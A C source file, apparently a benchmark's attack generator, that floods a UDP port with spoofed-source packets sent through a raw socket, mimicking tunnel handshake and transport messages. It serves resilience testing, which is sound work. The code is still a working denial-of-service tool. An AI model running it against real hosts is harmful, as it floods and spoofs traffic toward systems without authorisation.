/*
 * flood: a keyless attacker of a sealed remote, for netbench's -attacked cases. Sends UDP
 * datagrams from SRC:PORT (spoofed through a raw socket: the address of the remote the victim
 * names) to DST:PORT for SECONDS seconds, as fast as one core can, then prints how many it sent
 * and stops. Every other datagram is an initiation-shaped one (type 1, 148 random bytes: its
 * mac1 cannot be right) and a transport-shaped one (type 4, VNI 1, a random receiver index
 * and counter, 100 random bytes). Run it only inside a namespace the benchmark made.
 *
 * usage: flood SRC DST PORT SECONDS
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static uint64_t state = 0x9e3779b97f4a7c15ull;
static uint64_t next(void) { state ^= state << 13; state ^= state >> 7; state ^= state << 17; return state; }

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
    if (argc != 5) { fprintf(stderr, "usage: flood SRC DST PORT SECONDS\n"); return 2; }
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0) { perror("socket"); return 1; }
    struct sockaddr_in to = {.sin_family = AF_INET};
    inet_pton(AF_INET, argv[2], &to.sin_addr);
    uint16_t port = (uint16_t)atoi(argv[3]);
    double end = now() + atof(argv[4]);
    unsigned char packet[20 + 8 + 148];
    struct iphdr *ip = (struct iphdr *)packet;
    struct udphdr *udp = (struct udphdr *)(packet + 20);
    unsigned char *body = packet + 28;
    memset(packet, 0, sizeof packet);
    ip->version = 4; ip->ihl = 5; ip->ttl = 64; ip->protocol = IPPROTO_UDP;
    inet_pton(AF_INET, argv[1], &ip->saddr);
    ip->daddr = to.sin_addr.s_addr;
    udp->source = htons(port); udp->dest = htons(port);
    unsigned long sent = 0, tries = 0;
    while (1) {
        if ((tries++ & 1023) == 0 && now() >= end) break;  /* (bounded whatever sendto answers) */
        int initiation = tries & 1;
        size_t n = initiation ? 148 : 132;
        for (size_t i = 0; i < n; i += 8) { uint64_t r = next(); memcpy(body + i, &r, i + 8 <= n ? 8 : n - i); }
        if (initiation) { body[0] = 1; body[1] = body[2] = body[3] = 0; }
        else { body[0] = 4; body[1] = 0; body[2] = 0; body[3] = 1; }
        ip->tot_len = htons(28 + n); udp->len = htons(8 + n); udp->check = 0;  /* (no UDP checksum: allowed over IPv4) */
        if (sendto(fd, packet, 28 + n, 0, (struct sockaddr *)&to, sizeof to) > 0) sent++;
    }
    printf("%lu\n", sent);
    return 0;
}
